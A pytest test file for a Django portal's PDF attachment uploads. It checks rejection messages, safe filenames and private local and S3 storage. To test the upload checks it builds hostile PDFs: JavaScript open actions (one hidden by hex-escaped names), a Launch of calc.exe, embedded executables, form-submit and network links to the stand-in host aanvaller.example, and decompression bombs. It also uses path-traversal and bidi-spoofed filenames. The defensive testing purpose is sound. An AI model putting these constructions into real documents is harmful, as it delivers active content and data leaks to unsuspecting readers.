"""Uploaded attachments: checked by size, content, name and active content through the real view;
stored privately (no URL serves them, the storage makes no URL); the same flow on S3 (moto).

Every refused file is built in the test, posted by the aanvraag's own regisseur, and leaves
neither a row nor a file behind.
"""

from __future__ import annotations

import dataclasses
import datetime
import hashlib
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from moto import mock_aws
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    RectangleObject,
    TextStringObject,
)

from applications.aanvragen import pdf_controle, uploads
from applications.aanvragen.constants import PDF_MAX_UPLOAD_BYTES
from applications.aanvragen.models import Aanvraag, Bijlage, Indiening
from applications.aanvragen.statuses import AanvraagStatus
from applications.accounts.models import User
from applications.beheer.bestanden import nakijken, verwijder_wezen
from applications.beoordeling.services import aanvraag_decide, aanvraag_take

from ..aanvraag_helpers import fill_everything, pdf_bom, pdf_bytes, pdf_uit, worker_maakt_pdfs
from ..conftest import client_for

pytestmark = [pytest.mark.django_db, pytest.mark.pdf_controle_apart]

ROLES = ["regisseur", "collega", "beoordelaar", "beheerder", None]
OPNIEUW_AFDRUKKEN = (
    "Zulke actieve inhoud aanvaardt het portaal niet. Open het bestand en druk het opnieuw af "
    "naar PDF (bv. met 'Microsoft Print to PDF' of 'Opslaan als PDF'): die kopie bevat alleen "
    "de pagina's."
)


@pytest.fixture(autouse=True)
def private_root(settings: Any, tmp_path: Path) -> Path:
    """The private storage as production configures it, in this test's own directory."""
    root = tmp_path / "prive"
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "applications.core.storage.PrivateFileSystemStorage",
            "OPTIONS": {"location": root},
        },
    }
    return root


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def upload(user: User | None, aanvraag: Aanvraag, name: str, content: bytes) -> Any:
    bijlagetype = aanvraag.oproep.bijlagetypes.get(code="lso-vdab")
    file = SimpleUploadedFile(name, content, content_type="application/pdf")
    return client_for(user).post(
        f"/aanvragen/{aanvraag.pk}/bijlagen/", {"bijlagetype": bijlagetype.pk, "bestand": file}
    )


def streamed(response: Any) -> bytes:
    """The body of a FileResponse, read as the browser does."""
    return b"".join(response.streaming_content)


# --- PDFs built for the tests ---------------------------------------------------------------------


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def _action(**entries: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


# The pages every PDF built from objects here has (object 1 is the catalog).
PAGINA = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
}
# An action that runs JavaScript when the document opens, with before its /S and /JS a value
# that pypdf must read first (`%s`): a dictionary with a stream, whose /Length is object 10.
JS_ACHTER = b"<< /Type /Action /X %s /S /JavaScript /JS (app.alert\\(1\\)) >>"
STROOM_MET_LENGTE_10 = b"<< /Length 10 0 R >>\nstream\nAAAA\nendstream"


def pdf_with_javascript_behind_the_byte_limit() -> bytes:
    """The walk first reads object 20 (the last entry of the catalog), which unpacks 40 MB; then
    the action, whose stream's /Length (object 10) unpacks 20 MB more: each under pypdf's limit
    per stream (50 MB), together past the check's 50 MB in all. The limit is reached while pypdf
    reads the action, which it would keep up to there (strict=False), without its /JS."""
    return pdf_uit(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Eerst 20 0 R >>",
            **PAGINA,
            5: JS_ACHTER % STROOM_MET_LENGTE_10,
        },
        verpakt={10: b"4" + b" " * 20_000_000, 20: b"4" + b" " * 40_000_000},
    )


def pdf_with_document_javascript() -> bytes:
    writer = _one_page()
    writer.add_open_action(JavaScript("app.alert('hallo');"))  # the /Names /JavaScript tree
    return _write(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = _action(
        S=NameObject("/JavaScript"), JS=TextStringObject("app.alert('hallo');")
    )
    return _write(writer)


def pdf_with_page_open_javascript() -> bytes:
    writer = _one_page()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('pagina');"))  # /AA
    return _write(writer)


def pdf_with_javascript_link() -> bytes:
    writer = _one_page()
    link = _action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        A=_action(S=NameObject("/URI"), URI=TextStringObject(" JavaScript:app.alert(1)")),
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _write(writer)


def pdf_with_escaped_javascript_names() -> bytes:
    """`/J#61vaScript` is `/JavaScript` written with a hex escape, as malware does to hide it."""
    return _write(_one_page()).replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    )


def pdf_with_launch() -> bytes:
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = _action(
        S=NameObject("/Launch"), F=TextStringObject("C:\\Windows\\System32\\calc.exe")
    )
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _one_page()
    writer.add_attachment("factuur.exe", b"MZ dit is geen PDF")
    return _write(writer)


def pdf_with_richmedia() -> bytes:
    writer = _one_page()
    annotation = _action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/RichMedia"),
        Rect=ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]),
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_xfa() -> bytes:
    writer = _one_page()
    writer.root_object[NameObject("/AcroForm")] = _action(
        Fields=ArrayObject(), XFA=ArrayObject([TextStringObject("template"), TextStringObject("")])
    )
    return _write(writer)


def pdf_with_javascript_and_embedded_file() -> bytes:
    writer = _one_page()
    writer.add_open_action(JavaScript("app.alert('hallo');"))
    writer.add_attachment("macro.docm", b"PK")
    return _write(writer)


def pdf_with_password() -> bytes:
    writer = _one_page()
    writer.encrypt(user_password="geheim", owner_password="nog-geheimer", algorithm="AES-256")
    return _write(writer)


def _link(writer: PdfWriter, actie: DictionaryObject) -> bytes:
    link = _action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        A=actie,
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _write(writer)


def pdf_with_gotor() -> bytes:
    return _link(
        _one_page(),
        _action(
            S=NameObject("/GoToR"),
            F=TextStringObject("\\\\aanvaller.example\\deel\\x.pdf"),
            D=ArrayObject([NumberObject(0)]),
        ),
    )


def pdf_with_unc_link() -> bytes:
    return _link(
        _one_page(),
        _action(S=NameObject("/URI"), URI=TextStringObject("\\\\aanvaller.example\\deel")),
    )


def pdf_with_file_link() -> bytes:
    return _link(
        _one_page(), _action(S=NameObject("/URI"), URI=TextStringObject("file:///C:/Windows/"))
    )


def pdf_with_submit_form() -> bytes:
    return _link(
        _one_page(),
        _action(S=NameObject("/SubmitForm"), F=TextStringObject("https://aanvaller.example/")),
    )


def pdf_with_import_data() -> bytes:
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = _action(
        S=NameObject("/ImportData"), F=TextStringObject("gegevens.fdf")
    )
    return _write(writer)


def pdf_with_open_action_uri() -> bytes:
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = _action(
        S=NameObject("/URI"), URI=TextStringObject("https://aanvaller.example/gezien")
    )
    return _write(writer)


def pdf_with_control_character_javascript_link() -> bytes:
    return _link(
        _one_page(), _action(S=NameObject("/URI"), URI=TextStringObject("\x01javascript:alert(1)"))
    )


def pdf_with_empty_user_password() -> bytes:
    writer = _one_page()
    writer.encrypt(user_password="", owner_password="alleen-de-eigenaar", algorithm="AES-256")
    return _write(writer)


def pdf_without_pages() -> bytes:
    return _write(PdfWriter())


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02" + b"\x00" * 64


def _active(wat: str) -> str:
    return f"Deze PDF bevat {wat}. {OPNIEUW_AFDRUKKEN}"


NIET_VEILIG = (
    "Dit bestand kunnen we niet veilig nakijken: uitgepakt is het uitzonderlijk groot of bestaat "
    "het uit uitzonderlijk veel onderdelen. Druk het opnieuw af naar PDF en laad die kopie op."
)


REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    ("empty", lambda: b"", "Het bestand is leeg."),
    (
        "renamed_png",
        lambda: PNG,
        "Dit bestand is geen PDF (de inhoud telt, niet de naam). Bewaar het als PDF.",
    ),
    (
        "over_10_mb",
        lambda: pdf_bytes() + b"%" * (PDF_MAX_UPLOAD_BYTES + 1 - len(pdf_bytes())),
        "Het bestand is 10,1 MB; het maximum is 10 MB. Maak het kleiner, bv. door scans in "
        "een lagere resolutie te bewaren.",
    ),
    (
        "broken",
        lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n",
        "Deze PDF is beschadigd of kan niet gelezen worden. Open het bestand en druk het "
        "opnieuw af naar PDF, of bewaar het opnieuw als PDF.",
    ),
    (
        "password",
        pdf_with_password,
        "Deze PDF is beveiligd met een wachtwoord en kan niet gelezen worden. Bewaar hem zonder "
        "wachtwoord en laad hem opnieuw op.",
    ),
    (
        "empty_user_password",
        pdf_with_empty_user_password,
        "Deze PDF is beveiligd (versleuteld, bv. tegen afdrukken of kopiëren). WSE moet hem "
        "kunnen lezen, afdrukken en bewaren: bewaar hem zonder beveiliging en laad hem opnieuw op.",
    ),
    ("no_pages", pdf_without_pages, "Deze PDF heeft geen pagina's."),
    (
        "gotor",
        pdf_with_gotor,
        _active("een link naar een ander bestand of een netwerkmap (GoToR)"),
    ),
    (
        "unc_link",
        pdf_with_unc_link,
        _active("een link naar een ander bestand of een netwerkmap (GoToR)"),
    ),
    (
        "file_link",
        pdf_with_file_link,
        _active("een link naar een ander bestand of een netwerkmap (GoToR)"),
    ),
    (
        "submit_form",
        pdf_with_submit_form,
        _active("een formulier dat gegevens verstuurt (SubmitForm)"),
    ),
    (
        "import_data",
        pdf_with_import_data,
        _active("een opdracht om gegevens in te lezen (ImportData)"),
    ),
    (
        "open_action_uri",
        pdf_with_open_action_uri,
        _active("een webadres dat vanzelf opent bij het openen"),
    ),
    (
        "control_character_javascript_link",
        pdf_with_control_character_javascript_link,
        _active("JavaScript"),
    ),
    ("document_javascript", pdf_with_document_javascript, _active("JavaScript")),
    ("open_action_javascript", pdf_with_open_action_javascript, _active("JavaScript")),
    ("page_open_javascript", pdf_with_page_open_javascript, _active("JavaScript")),
    ("javascript_link", pdf_with_javascript_link, _active("JavaScript")),
    ("escaped_javascript", pdf_with_escaped_javascript_names, _active("JavaScript")),
    (
        "launch",
        pdf_with_launch,
        _active("een opdracht om een programma te starten (Launch)"),
    ),
    ("embedded_file", pdf_with_embedded_file, _active("ingesloten bestanden")),
    ("richmedia", pdf_with_richmedia, _active("multimedia (RichMedia)")),
    ("xfa", pdf_with_xfa, _active("een XFA-formulier")),
    (
        "javascript_and_embedded_file",
        pdf_with_javascript_and_embedded_file,
        _active("JavaScript en ingesloten bestanden"),
    ),
    ("javascript_behind_the_byte_limit", pdf_with_javascript_behind_the_byte_limit, NIET_VEILIG),
]


# --- Refused through the view -------------------------------------------------------------------


@pytest.mark.parametrize(("case", "build", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_bad_upload_is_refused_with_its_message_and_nothing_is_stored(
    case: str,
    build: Callable[[], bytes],
    message: str,
    aanvraag: Aanvraag,
    regisseur: User,
    private_root: Path,
) -> None:
    response = upload(regisseur, aanvraag, f"{case}.pdf", build())
    assert response.status_code == 200
    body = response.content.decode()
    assert escape(message) in body
    assert "Niet opgeladen: verbeter de aangeduide velden." in body
    assert not Bijlage.objects.exists()
    assert stored_files(private_root) == []


def test_a_pdf_whose_header_is_not_in_the_first_kilobyte_is_not_a_pdf(
    aanvraag: Aanvraag, regisseur: User, private_root: Path
) -> None:
    response = upload(regisseur, aanvraag, "verstopt.pdf", b"x" * 1024 + pdf_bytes())
    assert escape("Dit bestand is geen PDF") in response.content.decode()
    assert not Bijlage.objects.exists()
    assert stored_files(private_root) == []


def test_a_pdf_of_exactly_10_mb_is_accepted(aanvraag: Aanvraag, regisseur: User) -> None:
    content = pdf_bytes() + b"%" * (PDF_MAX_UPLOAD_BYTES - len(pdf_bytes()))
    assert upload(regisseur, aanvraag, "groot.pdf", content).status_code == 302
    assert Bijlage.objects.get().grootte == PDF_MAX_UPLOAD_BYTES


def test_a_crafted_pdf_with_too_many_parts_is_refused_unwalked(
    aanvraag: Aanvraag, regisseur: User, private_root: Path, settings: Any
) -> None:
    """A one-page PDF has 19 parts (dictionaries, arrays, values); 60 objects more pass 50."""
    settings.REGIEROL_PDF_CONTROLE_MAX_ONDERDELEN = 50
    assert upload(regisseur, aanvraag, "een.pdf", _write(_one_page())).status_code == 302
    writer = _one_page()
    filler = [writer._add_object(_action(N=NumberObject(i))) for i in range(60)]
    writer.root_object[NameObject("/Vulling")] = ArrayObject(filler)
    response = upload(regisseur, aanvraag, "veel.pdf", _write(writer))
    assert escape(NIET_VEILIG) in response.content.decode()
    assert Bijlage.objects.get().naam == "een.pdf"
    assert len(stored_files(private_root)) == 1


def test_a_decompression_bomb_is_refused_at_the_byte_limit(
    aanvraag: Aanvraag, regisseur: User, private_root: Path, settings: Any
) -> None:
    """Many object streams, each under pypdf's limit per stream (8 x 0.9 MB, limit 1 MB)."""
    settings.REGIEROL_PDF_CONTROLE_MAX_MB = 1
    bom = pdf_bom(strooms=8, per_stroom=900_000)
    response = upload(regisseur, aanvraag, "bom.pdf", bom)
    assert escape(NIET_VEILIG) in response.content.decode()
    assert not Bijlage.objects.exists()
    assert stored_files(private_root) == []


def test_the_byte_limit_counts_what_is_unpacked_in_all_and_stops_there(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The same bomb, in this process to see what pypdf unpacks: the check counts it in all and
    stops at the limit (at most one stream past it), never unpacking it all. If pypdf stopped
    calling `pypdf.filters.decode_stream_data` through its module, nothing would be counted and
    the bomb would pass."""
    uitgepakt: list[int] = []
    echt = pdf_controle._pypdf_decode

    def tellend(stream: Any) -> bytes:
        data = echt(stream)
        uitgepakt.append(len(data))
        return data

    monkeypatch.setattr(pdf_controle, "_pypdf_decode", tellend)
    grenzen = dataclasses.replace(uploads.pdf_grenzen(), max_bytes=1024 * 1024)
    bom = pdf_bom(strooms=8, per_stroom=900_000)
    uitslag = pdf_controle.nakijken(io.BytesIO(bom), grenzen)
    assert uitslag.fout == pdf_controle.TE_COMPLEX
    assert 1024 * 1024 < sum(uitgepakt) <= 2 * 1024 * 1024
    assert len(uitgepakt) < 8


def test_a_small_pdf_of_object_streams_within_the_limit_is_accepted(
    aanvraag: Aanvraag, regisseur: User, settings: Any
) -> None:
    """The same structure, small: object streams themselves are ordinary."""
    settings.REGIEROL_PDF_CONTROLE_MAX_MB = 1
    assert (
        upload(regisseur, aanvraag, "klein.pdf", pdf_bom(strooms=3, per_stroom=1000)).status_code
        == 302
    )


def test_the_check_gives_up_when_its_time_is_up(
    aanvraag: Aanvraag, regisseur: User, settings: Any
) -> None:
    """No time is measured here: with no time at all, the check refuses at its first step."""
    settings.REGIEROL_PDF_CONTROLE_SECONDEN = 0
    response = upload(regisseur, aanvraag, "gewoon.pdf", pdf_bytes())
    assert escape(NIET_VEILIG) in response.content.decode()


def test_ordinary_links_bookmarks_and_the_structure_tree_are_no_active_content(
    aanvraag: Aanvraag, regisseur: User
) -> None:
    """What office programs put in every PDF: web links, bookmarks, a tagged structure."""
    writer = _one_page()
    writer.add_blank_page(width=200, height=200)
    writer.add_uri(0, "https://www.vlaanderen.be/werk", RectangleObject([0, 0, 50, 50]))
    writer.add_outline_item(title="Hoofdstuk 2", page_number=1)
    writer.root_object[NameObject("/StructTreeRoot")] = writer._add_object(
        _action(Type=NameObject("/StructTreeRoot"), K=ArrayObject())
    )
    assert upload(regisseur, aanvraag, "gewoon.pdf", _write(writer)).status_code == 302
    assert Bijlage.objects.get().naam == "gewoon.pdf"


# --- Accepted: stored under our own name, downloadable byte for byte ----------------------------


def test_clean_pdf_is_stored_under_its_hash_and_downloads_byte_for_byte(
    aanvraag: Aanvraag, regisseur: User, beoordelaar: User, private_root: Path
) -> None:
    content = pdf_bytes(pages=3)
    response = upload(regisseur, aanvraag, "Beslissing gemeenteraad.pdf", content)
    assert response.status_code == 302
    bijlage = Bijlage.objects.get()
    sha256 = hashlib.sha256(content).hexdigest()
    assert (bijlage.naam, bijlage.sha256, bijlage.grootte) == (
        "Beslissing gemeenteraad.pdf",
        sha256,
        len(content),
    )
    assert bijlage.bestand.name == f"bijlagen/{aanvraag.pk}/{sha256}.pdf"
    assert stored_files(private_root) == [private_root / bijlage.bestand.name]
    for user in (regisseur, beoordelaar):
        download = client_for(user).get(f"/aanvragen/{aanvraag.pk}/bijlagen/{bijlage.pk}/")
        assert download.status_code == 200
        assert streamed(download) == content
        assert download["Content-Type"] == "application/pdf"
        assert download["X-Content-Type-Options"] == "nosniff"
        assert download["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\win.ini.pdf", "win.ini.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
        ("\u202egnp.pdf", "gnp.pdf"),
        ("factuur\u202efdp.exe", "factuurfdp.exe.pdf"),
        (".htaccess.pdf", "htaccess.pdf"),
        ("...pdf", "bijlage.pdf"),
        ("scan", "scan.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_uploaded_name_is_only_shown_and_made_safe(
    sent: str, shown: str, aanvraag: Aanvraag, regisseur: User, private_root: Path
) -> None:
    content = pdf_bytes()
    assert upload(regisseur, aanvraag, sent, content).status_code == 302
    bijlage = Bijlage.objects.get()
    assert bijlage.naam == shown
    sha256 = hashlib.sha256(content).hexdigest()
    assert bijlage.bestand.name == f"bijlagen/{aanvraag.pk}/{sha256}.pdf"
    assert stored_files(private_root) == [
        private_root / "bijlagen" / str(aanvraag.pk) / (f"{sha256}.pdf")
    ]


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\jan\\Beslissing.PDF", "Beslissing.PDF"),
        ("a\x00b.pdf", "ab.pdf"),
        ("regel\r\nnieuw.pdf", "regel nieuw.pdf"),
        ("\u202egnp.pdf", "gnp.pdf"),
        ("rapport\u2066\u2069\u200b.pdf", "rapport.pdf"),
        ("..", "bijlage.pdf"),
        (".pdf", "bijlage.pdf"),
        ("...pdf", "bijlage.pdf"),
        ("", "bijlage.pdf"),
        (None, "bijlage.pdf"),
        ("  .verborgen..pdf  ", "verborgen.pdf"),
        ("a...b.pdf", "a.b.pdf"),
        ('wat<>:"|?*.pdf', "wat_______.pdf"),
        ("tab\tnaam\u00a0vast.pdf", "tab naam vast.pdf"),
        ("Beslissing Sint-Niklaas \u00e9\u00e8.pdf", "Beslissing Sint-Niklaas \u00e9\u00e8.pdf"),
        ("e\u0301.pdf", "\u00e9.pdf"),
        ("y" * 300, "y" * 116 + ".pdf"),
        ("z" * 118 + " . .pdf", "z" * 116 + ".pdf"),
    ],
)
def test_safe_display_name(raw: str | None, safe: str) -> None:
    assert uploads.safe_display_name(raw) == safe
    assert len(uploads.safe_display_name(raw)) <= uploads.NAAM_MAX


# --- Private storage ------------------------------------------------------------------------------


@pytest.fixture
def stored(aanvraag: Aanvraag, regisseur: User) -> Bijlage:
    assert upload(regisseur, aanvraag, "LSO VDAB.pdf", pdf_bytes()).status_code == 302
    return Bijlage.objects.get()


@pytest.mark.parametrize("who", ROLES)
def test_no_url_serves_the_stored_files(
    who: str | None, stored: Bijlage, private_root: Path, request: pytest.FixtureRequest
) -> None:
    user = request.getfixturevalue(who) if who else None
    client = client_for(user)
    name = stored.bestand.name
    for url in (
        f"/media/{name}",
        f"/private-media/{name}",
        f"/{name}",
        f"/static/{name}",
        f"/static/../private-media/{name}",
        f"/static/%2e%2e/{private_root.name}/{name}",
    ):
        response = client.get(url)
        assert response.status_code == 404, url


def test_the_storage_makes_no_url(stored: Bijlage) -> None:
    with pytest.raises(ValueError, match="no URL"):
        default_storage.url(stored.bestand.name)
    with pytest.raises(ValueError, match="no URL"):
        _ = stored.bestand.url


def test_the_configured_storages_have_no_url(monkeypatch: pytest.MonkeyPatch) -> None:
    """What settings.py configures, on disk and on S3, not what this test module sets up."""
    import runpy

    from django.utils.module_loading import import_string

    import regierol.settings
    from applications.core.storage import NoUrlMixin

    for bucket in ("", "regierol-bestanden"):
        monkeypatch.setenv("REGIEROL_S3_BUCKET", bucket)
        configured = runpy.run_path(regierol.settings.__file__)["PRIVATE_STORAGE"]
        assert issubclass(import_string(configured["BACKEND"]), NoUrlMixin), configured


def test_the_beheer_site_offers_the_view_not_a_storage_url(
    stored: Bijlage, beheerder: User
) -> None:
    response = client_for(beheerder).get(f"/beheer/aanvragen/bijlage/{stored.pk}/change/")
    assert response.status_code == 200
    body = response.content.decode()
    assert f'href="/aanvragen/{stored.aanvraag_id}/bijlagen/{stored.pk}/"' in body
    assert stored.bestand.name not in body


# --- S3-compatible storage (moto) ---------------------------------------------------------------

BUCKET = "regierol-test"
REGION = "eu-west-1"
PUBLIC_GROUPS = (
    "http://acs.amazonaws.com/groups/global/AllUsers",
    "http://acs.amazonaws.com/groups/global/AuthenticatedUsers",
)


@pytest.fixture
def s3(settings: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """The default storage switched to a private bucket, as REGIEROL_S3_BUCKET does."""
    for key, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": REGION,
    }.items():
        monkeypatch.setenv(key, value)
    with mock_aws():
        client = boto3.client("s3", region_name=REGION)
        client.create_bucket(
            Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION}
        )
        settings.STORAGES = {
            **settings.STORAGES,
            "default": {
                "BACKEND": "applications.core.storage_s3.PrivateS3Storage",
                "OPTIONS": {
                    "bucket_name": BUCKET,
                    "region_name": REGION,
                    "access_key": "testing",
                    "secret_key": "testing",
                    "default_acl": "private",
                    "querystring_auth": True,
                    "file_overwrite": False,
                },
            },
        }
        yield client


def _keys(client: Any) -> list[str]:
    return [o["Key"] for o in client.list_objects_v2(Bucket=BUCKET).get("Contents", [])]


def _assert_private(client: Any, key: str) -> None:
    grants = client.get_object_acl(Bucket=BUCKET, Key=key)["Grants"]
    assert grants, key
    assert all(g["Grantee"].get("URI") not in PUBLIC_GROUPS for g in grants), grants
    assert {g["Grantee"]["Type"] for g in grants} == {"CanonicalUser"}


def test_on_s3_an_attachment_goes_to_the_private_bucket_and_comes_back_through_the_view(
    s3: Any,
    aanvraag: Aanvraag,
    regisseur: User,
    beoordelaar: User,
    private_root: Path,
    django_capture_on_commit_callbacks: Any,
) -> None:
    content = pdf_bytes(pages=2)
    assert upload(regisseur, aanvraag, "../LSO VDAB.pdf", content).status_code == 302
    bijlage = Bijlage.objects.get()
    assert bijlage.naam == "LSO VDAB.pdf"
    assert _keys(s3) == [bijlage.bestand.name]
    assert s3.get_object(Bucket=BUCKET, Key=bijlage.bestand.name)["Body"].read() == content
    _assert_private(s3, bijlage.bestand.name)
    assert stored_files(private_root) == []
    with pytest.raises(ValueError, match="no URL"):
        _ = bijlage.bestand.url

    download = client_for(beoordelaar).get(f"/aanvragen/{aanvraag.pk}/bijlagen/{bijlage.pk}/")
    assert download.status_code == 200
    assert streamed(download) == content

    # A refused upload leaves nothing in the bucket either.
    upload(regisseur, aanvraag, "script.pdf", pdf_with_document_javascript())
    assert _keys(s3) == [bijlage.bestand.name]

    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(regisseur).post(
            f"/aanvragen/{aanvraag.pk}/bijlagen/{bijlage.pk}/verwijderen/"
        )
    assert response.status_code == 302
    assert _keys(s3) == []


def test_on_s3_the_sealed_pdf_the_zip_and_the_decision_letter_are_in_the_bucket(
    s3: Any,
    aanvraag: Aanvraag,
    regisseur: User,
    beoordelaar: User,
    private_root: Path,
) -> None:
    fill_everything(aanvraag, regisseur)
    voor = _keys(s3)
    response = client_for(regisseur).post(f"/aanvragen/{aanvraag.pk}/indienen/", {"mandaat": "on"})
    assert response.status_code == 302
    assert _keys(s3) == voor  # the submission writes no file: the worker makes the PDF
    worker_maakt_pdfs()
    indiening = Indiening.objects.get(aanvraag=aanvraag)
    assert indiening.pdf.name in _keys(s3)
    _assert_private(s3, indiening.pdf.name)
    sealed = s3.get_object(Bucket=BUCKET, Key=indiening.pdf.name)["Body"].read()
    assert hashlib.sha256(sealed).hexdigest() == indiening.pdf_sha256

    wse = client_for(beoordelaar)
    download = wse.get(f"/aanvragen/{aanvraag.pk}/pdf/{indiening.nummer}/")
    assert download.status_code == 200
    assert download.content == sealed
    archive = wse.get(f"/beoordeling/{aanvraag.oproep.slug}/pdfs.zip")
    assert archive.status_code == 200
    with zipfile.ZipFile(io.BytesIO(streamed(archive))) as zf:
        pdfs = [n for n in zf.namelist() if n.endswith(".pdf")]
        assert [zf.read(n) for n in pdfs] == [sealed]

    aanvraag_take(aanvraag=aanvraag, by=beoordelaar)
    beslissing = aanvraag_decide(
        aanvraag=Aanvraag.objects.get(pk=aanvraag.pk),
        by=beoordelaar,
        uitkomst=AanvraagStatus.AFGEWEZEN,
        motivatie="Onvoldoende onderbouwd.",
    )
    assert beslissing.brief.name in _keys(s3)
    _assert_private(s3, beslissing.brief.name)
    letter = client_for(regisseur).get(f"/aanvragen/{aanvraag.pk}/beslissing.pdf")
    assert letter.status_code == 200
    assert hashlib.sha256(letter.content).hexdigest() == beslissing.brief_sha256
    assert stored_files(private_root) == []


def test_on_s3_the_file_check_finds_and_removes_an_object_without_a_row(
    s3: Any, aanvraag: Aanvraag, regisseur: User
) -> None:
    assert upload(regisseur, aanvraag, "lso.pdf", pdf_bytes()).status_code == 302
    bijlage = Bijlage.objects.get()
    s3.put_object(Bucket=BUCKET, Key="bijlagen/9/afgebroken.pdf", Body=b"%PDF-1.7 half")

    recent = nakijken()
    assert [w.naam for w in recent.recent] == ["bijlagen/9/afgebroken.pdf"]
    assert recent.wezen == [] and recent.ontbrekend == []

    nazicht = nakijken(wachttijd=datetime.timedelta(0))
    assert [(w.naam, w.grootte) for w in nazicht.wezen] == [("bijlagen/9/afgebroken.pdf", 13)]
    verwijder_wezen(nazicht)
    assert _keys(s3) == [bijlage.bestand.name]

    s3.delete_object(Bucket=BUCKET, Key=bijlage.bestand.name)
    assert nakijken().ontbrekend == [bijlage.bestand.name]
